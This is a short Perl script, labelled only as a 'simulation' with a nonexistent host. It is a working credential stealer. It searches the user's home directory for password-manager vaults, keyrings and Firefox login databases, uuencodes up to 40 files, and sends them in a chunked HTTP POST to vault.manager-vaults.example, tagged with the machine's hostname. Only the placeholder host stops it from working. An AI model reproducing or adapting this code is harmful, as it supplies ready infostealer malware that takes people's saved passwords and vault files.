# SPDX-License-Identifier: Apache-2.0
# Simulation: sends to a host that does not exist.
use strict;
use warnings;
use File::Find;
use IO::Socket::INET;
use Sys::Hostname;

my $home = $ENV{HOME} || (getpwuid $<)[7];
my @places = grep { -d } map { "$home/$_" } qw(.password-store .config/Bitwarden .config/1Password .config/KeePass .config/keepassxc .local/share/keyrings .local/share/kwalletd .mozilla Documents);
my @found;
find({ no_chdir => 1, wanted => sub { push @found, $_ if @found < 40 && -f && /(\.gpg|\.kdbx?|\.keyring|\.kwl|data\.json|key4\.db|logins\.json|\.agilekeychain|\.1pux)$/i } }, @places, $home) if -d $home;
my $body = '';
for my $file (@found) {
    open my $in, '<:raw', $file or next;
    read $in, my $data, 30000;
    $body .= "begin 644 $file\n" . pack('u', $data) . "`\nend\n";
}
my $far = IO::Socket::INET->new(PeerAddr => 'vault.manager-vaults.example', PeerPort => 8080, Timeout => 4) or exit 0;
print $far "POST /in/" . hostname() . " HTTP/1.1\r\nHost: vault.manager-vaults.example:8080\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n";
for (my $at = 0; $at < length $body; $at += 4096) {
    my $part = substr $body, $at, 4096;
    printf $far "%x\r\n%s\r\n", length $part, $part;
}
print $far "0\r\n\r\n";
alarm 4;
local $SIG{ALRM} = sub { exit 0 };
<$far>;
